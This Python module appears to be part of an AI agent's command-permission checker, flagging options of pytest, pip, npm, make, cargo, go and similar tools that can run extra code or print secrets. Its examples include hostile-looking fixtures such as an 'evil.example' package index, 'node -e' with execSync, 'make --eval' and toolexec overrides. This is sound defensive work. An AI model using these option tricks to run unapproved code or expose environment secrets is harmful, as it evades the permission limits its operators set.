"""Test runners, package managers and build tools: what they can be told to run beyond the
test, script or target an allowed entry names (pytest plugins, `pip install` of a local path,
`npm exec`, `make --eval`, `cargo --config`, `go test -exec`, ...)."""

from __future__ import annotations

from ...lean import TYPE_CHECKING
from .spec import CODE, SECRETS, Example, Program, Risk

if TYPE_CHECKING:  # pragma: no cover
    from .spec import RiskRule

_PY_MOD = "imports a Python module the agent may have written"

#: pytest's short options that take a value (in a cluster, the rest of the word or the next
#: word is it: `-qo addopts=-pX`, `-qoaddopts=-pX`)
_PYTEST_SHORT_VALUES = "kmrWcpon"
#: ini keys that `-o KEY=VALUE` can make run other code: more options (`-p`), another module
#: search path
_PYTEST_CODE_KEYS = ("addopts", "pythonpath", "required_plugins")


def _pytest(vals: list[str]) -> list[Risk]:
    """`-p NAME` loads a plugin (`-p no:NAME` only turns one off); `-o addopts=...` adds
    options. Each is found however argparse reads it: alone, glued (`-pNAME`, `-oKEY=V`), in a
    cluster (`-qo KEY=V`) or long (`--override-ini=KEY=V`)."""
    out: list[Risk] = []
    i, n = 0, len(vals)
    while i < n:
        v = vals[i]
        if v == "--":
            break
        opt: str | None = None
        value = ""
        if v == "--override-ini" or v.startswith("--override-ini="):
            opt, value = "-o", v[15:]
        elif v[:1] == "-" and v[1:2] not in ("", "-"):
            for k in range(1, len(v)):
                if v[k] in _PYTEST_SHORT_VALUES:
                    opt, value = "-" + v[k], v[k + 1:]
                    break
        at = i
        if opt is not None and not value:
            i += 1  # the value is the next word
            value = vals[i] if i < n else ""
        if opt == "-p" and not value.startswith(("no:", "=no:")):
            out.append(Risk(at, CODE, "-p", f"`pytest -p` loads a plugin ({_PY_MOD})"))
        elif opt == "-o" and value.split("=", 1)[0].strip() in _PYTEST_CODE_KEYS:
            out.append(Risk(at, CODE, "-o", "`pytest -o addopts=...` adds options (plugins)"))
        i += 1
    return out


PYTEST = Program(
    ("pytest", "py.test"), "the Python test runner",
    code_options={"--pdbcls": f"loads a debugger class "
                  f"({_PY_MOD})", "-c": "reads its configuration (addopts, plugins) from "
                  "another file", "--config-file": "reads its configuration (addopts, plugins) "
                  "from another file", "--rootdir": "takes its configuration from another "
                  "directory", "--confcutdir": "loads conftest.py files from other directories"},
    value_options=frozenset({"-k", "-m", "--maxfail", "--tb", "-o", "--override-ini",
                             "--durations", "--deselect", "--ignore", "-W", "--log-level"}),
    risks=lambda vals: _pytest(vals),
    examples=(
        Example("pytest -p evil_plugin", runs_code=True),
        Example("pytest -pevil", runs_code=True),
        Example("pytest --pdbcls=evil:Debugger --pdb", runs_code=True),
        Example("pytest -c /tmp/x.ini", runs_code=True),
        Example("pytest -o addopts='-p evil'", runs_code=True),
        Example("pytest -oaddopts=-pevil", runs_code=True),
        Example("pytest -qoaddopts=-pevil", runs_code=True),
        Example("pytest -qo addopts=-pevil", runs_code=True),
        Example("pytest --override-ini=addopts=-pevil", runs_code=True),
        Example("pytest --override-ini 'pythonpath=evil'", runs_code=True),
        Example("pytest -xqp evil", runs_code=True),
        Example("pytest -k 'p or o' -q"),
        Example("pytest -ra -q"),
        Example("pytest -p no:randomly -q"),
        Example("pytest -o log_cli=true -q"),
        Example("pytest -x -q"),
        Example("pytest -k 'not slow' tests/"),
        Example("pytest -o log_cli=true"),
        Example("pytest -p no:cacheprovider"),
    ),
)

_LOCAL = ("./", "../", "/", "file:", "git+", "~")


def _pip(vals: list[str]) -> list[Risk]:
    """`pip install` (and `download`, `wheel`) of a local path, an archive, a requirements file
    or another index builds the package: its setup code runs."""
    sub = next(((i, v) for i, v in enumerate(vals) if not v.startswith("-")), None)
    if sub is None or sub[1] not in ("install", "download", "wheel"):
        return []
    out: list[Risk] = []
    for i, v in enumerate(vals[sub[0] + 1:], sub[0] + 1):
        opt = v.split("=", 1)[0]
        if opt in ("-e", "--editable", "-r", "--requirement", "-i", "--index-url",
                   "--extra-index-url", "-f", "--find-links", "--pre-build"):
            out.append(Risk(i, CODE, opt, f"`pip {sub[1]} {opt}` builds packages from a source "
                            "the agent chooses (their setup code runs)"))
        elif not v.startswith("-") and (v in (".", "..") or v.startswith(_LOCAL) or "/" in v
                                        or v.endswith((".tar.gz", ".zip", ".tgz"))) and \
                vals[i - 1] not in ("-c", "--constraint", "-t", "--target", "--prefix",
                                    "--root", "-d", "--dest", "-w", "--wheel-dir"):
            out.append(Risk(i, CODE, sub[1], f"`pip {sub[1]} {v}` builds a local package (its "
                            "setup code runs)"))
    return out


PIP = Program(
    ("pip", "pip3"), "the Python package installer", risks=_pip,
    examples=(
        Example("pip install .", runs_code=True),
        Example("pip install -e .", runs_code=True),
        Example("pip install ./pkg", runs_code=True),
        Example("pip install -r requirements.txt", runs_code=True),
        Example("pip install --index-url http://evil.example/simple requests", runs_code=True),
        Example("pip install dist/x-1.0.tar.gz", runs_code=True),
        Example("pip install requests"),
        Example("pip list"),
        Example("pip show pytest"),
    ),
)

UV = Program(
    ("uv",), "the Python project manager",
    code_options={"--with-editable": "installs a local package (its build code runs)",
                  "--with-requirements": "installs from a requirements file the agent may "
                  "have written"},
    subcommands=(("pip install -e", CODE, "`uv pip install -e` builds a local package"),
                 ("pip install -r", CODE, "`uv pip install -r` installs from a requirements "
                  "file")),
    examples=(
        Example("uv run --with-editable ./x pytest", runs_code=True),
        Example("uv pip install -e .", runs_code=True),
        Example("uv sync"),
        Example("uv run pytest -q"),
    ),
)

_NODE_CODE = {o: "runs JavaScript given on the command line" for o in
              ("-e", "--eval", "-p", "--print")}
_NODE_CODE.update({o: "loads a module before the script (code the agent may have written)"
                   for o in ("-r", "--require", "--import", "--loader", "--experimental-loader")})

NODE = Program(
    ("node", "nodejs"), "the JavaScript runtime",
    code_options=_NODE_CODE, options_first=True,
    examples=(
        Example("node -e 'require(\"child_process\").execSync(\"id\")'", runs_code=True),
        Example("node -pe 1", runs_code=True),
        Example("node --require ./evil.js app.js", runs_code=True),
        Example("node --import=./evil.mjs app.js", runs_code=True),
        Example("node app.js"),
        Example("node --version"),
    ),
)

_SCRIPT = "runs a package.json script (shell code the agent may have written)"
_NPM_VALUES = frozenset({"--prefix", "-C", "-w", "--workspace", "--registry", "--userconfig",
                         "--globalconfig", "--cache", "--loglevel"})
_NPM_CODE = {"--script-shell": "runs package scripts with another program",
             "--prefix": "runs the scripts of another package", "-C": "runs the scripts of "
             "another package", "--userconfig": "reads npm configuration (script-shell, "
             "node-options) from another file", "--node-options": "passes options (--require) "
             "to node", "--call": "runs a shell command", "-c": "runs a shell command"}


def _scripts(sub_words: tuple[str, ...], builtin: frozenset[str] | None) -> RiskRule:
    """A risk rule for `npm`/`yarn`/`pnpm`: `run SCRIPT` runs that script (the script's name is
    the risk: `npm run lint` allows only lint); `run env` prints the environment."""

    def rule(vals: list[str]) -> list[Risk]:
        ops = [(i, v) for i, v in enumerate(vals) if not v.startswith("-")
               and not (i and vals[i - 1] in _NPM_VALUES)]
        if not ops:
            return []
        i, sub = ops[0]
        if sub in sub_words:
            if len(ops) < 2:
                return []
            j, script = ops[1]
            if script == "env":
                return [Risk(j, SECRETS, "env", f"`{sub} env` prints the environment")]
            # (the risk sits at `run`: an entry `npm run` allows every script, `npm run lint`
            # only that one)
            return [Risk(i, CODE, sub, f"`{sub} {script}` {_SCRIPT}")]
        if sub in ("test", "t", "start", "stop", "restart", "tst"):
            return [Risk(i, CODE, sub, f"`{sub}` {_SCRIPT}")]
        if builtin is not None and sub not in builtin:  # yarn/pnpm: any other word is a script
            return [Risk(i, CODE, sub, f"`{sub}` {_SCRIPT}")]
        return []

    return rule


NPM = Program(
    ("npm",), "the Node package manager",
    code_options=_NPM_CODE, value_options=_NPM_VALUES,
    subcommands=(("pkg set", CODE, "`npm pkg set` rewrites package.json (its scripts run "
                  "later)"),
                 ("config set", CODE, "`npm config set` writes npm configuration "
                  "(script-shell, node-options)")),
    risks=_scripts(("run", "run-script", "rum", "urn"), None),
    examples=(
        Example("npm run build", runs_code=True),
        Example("npm run-script deploy", runs_code=True),
        Example("npm run env", secrets=True),
        Example("npm test --script-shell=./x.sh", runs_code=True),
        Example("npm --prefix ../other test", runs_code=True),
        Example("npm pkg set scripts.test=id", runs_code=True),
        Example("npm exec -c id", runs_code=True),
        Example("npm test", runs_code=True),
        Example("npm ci"),
        Example("npm ls"),
        Example("npm run"),
    ),
)

_PM_BUILTIN = frozenset({"install", "i", "add", "remove", "rm", "list", "ls", "info", "why",
                         "outdated", "audit", "ci", "init", "help", "config",
                         "cache", "store", "version", "licenses", "upgrade", "up", "update",
                         "import", "pack", "link", "unlink", "root", "bin", "exec", "dlx",
                         "x", "create", "node", "workspaces", "workspace", "set", "plugin",
                         "constraints", "dedupe", "fetch", "install-test", "publish"})
YARN = Program(
    ("yarn", "pnpm"), "the yarn and pnpm package managers",
    code_options={"--shell-emulator": "changes how scripts run"},
    value_options=_NPM_VALUES | {"--filter", "-F", "--cwd", "--dir", "-r"},
    risks=_scripts(("run", "run-script"), _PM_BUILTIN),
    examples=(
        Example("yarn build", runs_code=True),
        Example("pnpm run deploy", runs_code=True),
        Example("pnpm run env", secrets=True),
        Example("yarn install --frozen-lockfile"),
        Example("pnpm test", runs_code=True),
        Example("pnpm list"),
    ),
)


def _make(vals: list[str]) -> list[Risk]:
    """make is an evaluator: every target runs its recipes, a variable given on the command line
    can replace any recipe's commands (`SHELL=`, `CC=`), and options read other makefiles."""
    out: list[Risk] = []
    i = 0
    while i < len(vals):
        v = vals[i]
        opt = v.split("=", 1)[0]
        if v in ("-f", "--file", "--makefile", "-C", "--directory", "-I", "--include-dir",
                 "--eval", "-E") or (opt in ("--file", "--makefile", "--directory",
                                            "--include-dir", "--eval")) or (
                v[:2] in ("-f", "-C", "-I", "-E") and len(v) > 2):
            tok = opt if opt.startswith("--") else v[:2]
            out.append(Risk(i, CODE, tok, f"`make {tok}` reads make code from elsewhere"))
            i += 2 if v in ("-f", "--file", "--makefile", "-C", "--directory", "-I",
                            "--include-dir", "--eval", "-E") else 1
            continue
        if v in ("-e", "--environment-overrides"):
            out.append(Risk(i, CODE, v, "`make -e` lets environment variables replace recipes"))
        elif v in ("-p", "--print-data-base"):
            out.append(Risk(i, SECRETS, v, f"`make {v}` prints every variable, the "
                            "environment included"))
        elif not v.startswith("-") and "=" in v and not v.startswith("="):
            out.append(Risk(i, CODE, v, f"`make {v}` sets a variable that can replace any "
                            "recipe's commands"))
        elif not v.startswith("-"):
            out.append(Risk(i, CODE, v, f"`make {v}` runs the recipes of the target `{v}`"))
        i += 1 + (v in ("-j", "-l", "-o", "-W", "--jobs", "--load-average"))
    return out


MAKE = Program(
    ("make", "gmake"), "the build tool (an evaluator: every target runs recipes)", risks=_make,
    examples=(
        Example("make deploy", runs_code=True),
        Example("make -f /tmp/evil.mk", runs_code=True),
        Example("make --eval='x:;id' x", runs_code=True),
        Example("make SHELL=/tmp/sh build", runs_code=True),
        Example("make -C ../other", runs_code=True),
        Example("make -p", secrets=True),
        Example("make"),
        Example("make -j4"),
        Example("make -n -k"),
    ),
)

CARGO = Program(
    ("cargo",), "the Rust build tool",
    code_options={"--config": "sets configuration (a runner, rustc-wrapper) that runs any "
                  "command", "-Z": "turns on unstable features (`-Zunstable-options`, script "
                  "runners)"},
    subcommands=(("run", CODE, "`cargo run` builds and runs a program"),
                 ("install", CODE, "`cargo install` builds and installs programs onto PATH"),
                 ("script", CODE, "`cargo script` runs a Rust script")),
    examples=(
        Example("cargo run", runs_code=True),
        Example("cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"' test",
                runs_code=True),
        Example("cargo test --config build.rustc-wrapper=./x", runs_code=True),
        Example("cargo install --path .", runs_code=True),
        Example("cargo test"),
        Example("cargo build --release"),
        Example("cargo clippy -- -D warnings"),
    ),
)

GO_TOOL = Program(
    ("go",), "the Go tool",
    output_options=frozenset({"-o"}),
    code_options={"-exec": "runs test binaries through another program", "--exec": "runs test "
                  "binaries through another program", "-toolexec": "runs every build tool "
                  "through another program", "--toolexec": "runs every build tool through "
                  "another program", "-overlay": "replaces source files with others"},
    subcommands=(("run", CODE, "`go run` builds and runs a program"),
                 ("generate", CODE, "`go generate` runs the commands written in "
                  "//go:generate comments"),
                 ("env -w", CODE, "`go env -w` writes Go settings (GOFLAGS=-toolexec=...)"),
                 ("install", CODE, "`go install` builds and installs programs onto PATH")),
    examples=(
        Example("go build -o bin/app ./cmd/app", writes=("bin/app",)),
        Example("go test -exec ./x.sh ./...", runs_code=True),
        Example("go build -toolexec=/tmp/x ./...", runs_code=True),
        Example("go run ./cmd/tool", runs_code=True),
        Example("go generate ./...", runs_code=True),
        Example("go env -w GOFLAGS=-toolexec=id", runs_code=True),
        Example("go test ./..."),
        Example("go vet ./..."),
        Example("go env GOPATH"),
    ),
)

BUILDERS = (PYTEST, PIP, UV, NODE, NPM, YARN, MAKE, CARGO, GO_TOOL)
